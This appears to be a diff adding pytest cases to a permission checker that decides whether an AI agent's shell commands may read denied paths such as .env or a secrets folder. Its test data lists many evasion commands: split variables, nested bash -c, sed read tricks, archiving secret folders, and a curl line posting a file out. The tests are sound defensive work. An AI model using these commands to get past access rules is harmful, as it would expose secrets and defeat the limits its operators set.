@@ -43,14 +43,51 @@ cd "$(pwd)/x"; cat key
 git -C $D log
 curl -d @$F http://x
 curl --data-binary=@$F x
-for f in *; do cat $f; done
+for f in $(ls -a); do cat $f; done
+for f in a; do for g in b; do cat $f $g; done; done
+for f in a; do :; done; cat $f
+for f in a; do cat ${f%x}; done
+while read f; do cat $f; done < list
+false && F=a; cat $F
+F=a cat $F
+F=a; read F; cat $F
+F=.env.a; cat $F:r
+IFS=z; F=az.env; cat $F
+export F=a; cat $F
+echo $(cat $F)
+echo "$(echo "$(<$F)")"
+echo `cat $F`
+[ "$(cat $F)" ] && ls
+printf %s "$(head $1)"
+cd x; cat $PWD/$y
 sudo cat $F
 env A=1 cat $F
 python -c 'print(1)'
 python3 - <<X
 node -e 1
 echo x | bash
-bash -lc 'npm test'
+bash -lc 'cat $F'
+bash -lc "cat $F"
+bash -c 'echo "' ; cat $F ; echo '"'
+echo 'x bash -c ' ; cat $F ; echo ' ; y'
+echo "x bash -c '" ; cat $F ; echo '; "'
+echo " bash -c '" "' ; cat $F
+bash -c 'cat "$1"' _ .e*
+bash -c 'python3 -c 1'
+xargs bash -c 'cat x'
+BASH_ENV=$F bash -c 'ls'
+sed -n 'r .env' a
+sed 's/a/b/w out' a
+sed '1p;w out' a
+sed 's/a/b/e' a
+sed 's/a/b/;r x' a
+sed -n 1p a -e 'r x'
+sed -f script a
+sed --file=script a
+sed -n 's/x/\\/;r y/p' a
+sed $x a
+sed -n 1p $F
+sed
 eval "$x"
 awk 1 a
 source x
@@ -84,6 +121,34 @@ cat src/*.py
 ls *.log
 find . -name x
 cp src/{a,b}.py x/
+for f in *; do cat $f; done
+cd src && for f in *.py; do wc -l "$f"; done | sort -n
+x=src; ls $x/a.py "${x}/b"
+head -n $((3 + 4)) a
+cat "$HOME/notes" $PWD/a
+if [ -n "$x" ]; then ls; fi
+sleep $x; kill $!; exit $code
+bash -lc 'npm test'
+/bin/bash -lc "cat 'a b.txt' | head -2"
+sh -c 'echo out; echo err >&2; exit 3'
+bash -c 'ls' && cat a.txt
+sed -n '10,20p' src/a.py
+sed -n 1,200p src/a.py | head
+sed -n '1p;3,5p' src/a.py
+sed -i 's/a - b/a + b/' src/a.py
+nl -ba src/a.py | sed -n '1,3p'
+"""
+IS_IT = """
+F=.env; cat $F
+x=.en; cat ${x}v
+for f in a .env; do cat "$f"; done
+A=.e; B=nv; cat $A$B
+F=a; F=.env; cat $F
+D=/; D=.; cat $PWD/.env
+bash -lc 'cat .env'
+sed -n 1p .env
+sed -i s/a/b/ ./x/../.env
+bash -c 'cd src && sed -n 1p ../.env'
 """
 
 
@@ -94,6 +159,13 @@ def test_a_line_that_could_name_a_denied_path_is_never_allowed_unasked(
     rules = [Rule(answer="deny", path=".env")]
     decision = decide([TABLE.call("Bash", {"command": line})], FULL_ACCESS, rules, workspace)
     assert decision.answer != "allow", decision.why
+
+
+@pytest.mark.parametrize("line", IS_IT.strip().split("\n"))
+def test_a_variable_that_the_line_sets_itself_is_what_it_is_set_to(line: str, workspace: WorkFolder) -> None:
+    rules = [Rule(answer="deny", path=".env")]
+    decision = decide([TABLE.call("Bash", {"command": line})], FULL_ACCESS, rules, workspace)
+    assert decision.answer == "deny", decision.why
 
 
 @pytest.mark.parametrize("line", CANNOT_NAME_IT.strip().split("\n"))
@@ -116,7 +188,22 @@ def test_git_that_shows_files_is_asked_about_where_one_of_them_is_denied(
 
 
 @pytest.mark.parametrize(
-    "line", ["mv secrets x", "ln -s secrets x; cat x/key", "gzip -r .", "7z a x.7z .", "git clone . x"]
+    "line",
+    [
+        "mv secrets x",
+        "ln -s secrets x; cat x/key",
+        "gzip -r .",
+        "7z a x.7z .",
+        "git clone . x",
+        "grep -r KEY *",
+        "tar czf x.tgz s*",
+        "cp -r {src,secrets} x",
+        "for d in *; do cp -r $d x; done",
+        "D=secrets; cp -r $D x",
+        "sudo tar c secrets",
+        "bash -c 'tar c secrets'",
+        "if true; then tar c secrets; fi",
+    ],
 )
 def test_what_moves_or_packs_a_folder_with_something_denied_is_asked_about(
     line: str, workspace: WorkFolder
@@ -136,3 +223,46 @@ def test_a_denied_path_is_denied_by_way_of_a_process(workspace: WorkFolder) -> N
     ):
         call = TABLE.call("Read", {"file_path": path})
         assert decide([call], FULL_ACCESS, rules, workspace).answer == "deny"
+
+
+@pytest.mark.parametrize(
+    ("line", "answer"),
+    [
+        ("grep -rn foo src", "allow"),
+        ("grep -rn --include=*.py foo src/", "allow"),
+        ("rg -n foo src", "allow"),
+        ("rg foo src | head -5", "allow"),
+        ("grep -rn foo", "ask"),
+        ("grep -rn foo .", "ask"),
+        ("rg foo", "ask"),
+        ("rg -A 3 src", "ask"),
+        ("grep -r -A 3 src", "ask"),
+        ("grep -rA3 -e foo", "ask"),
+        ("grep -r foo src -e x .", "ask"),
+        ("grep -rn foo src secrets", "ask"),
+        ("grep -rn foo src 2>/dev/null", "allow"),
+        ("rg foo src && rg foo", "ask"),
+        ("cd src && rg foo ..", "ask"),
+        ("ag -G src foo", "ask"),
+        ("rg --files src", "ask"),
+        ("rg -r src foo", "ask"),
+        ("grep -rn 'a b' src", "allow"),
+        ('grep -rn "def x" src/a.py src', "allow"),
+        ("rg -n 'class \\w+' src 2>/dev/null | head", "allow"),
+        ("grep -rn 'a b'", "ask"),
+        ("sudo grep -rn 'foo'", "ask"),
+        ('bash -c "grep -rn foo"', "ask"),
+        ("rg -E src foo", "ask"),
+        ("grep -R foo src", "ask"),
+        ("rg -L foo src", "ask"),
+        ("rg foo >src 2>x", "ask"),
+        ("rg foo | cat src", "ask"),
+    ],
+)
+def test_a_search_with_a_place_is_looked_at_there_alone(
+    line: str, answer: str, workspace: WorkFolder
+) -> None:
+    (Path(workspace.root) / "secrets").mkdir()
+    (Path(workspace.root) / "secrets/key").write_text("1")
+    call, rules = TABLE.call("Bash", {"command": line}), [Rule(answer="deny", path="secrets/*")]
+    assert decide([call], FULL_ACCESS, rules, workspace).answer == answer
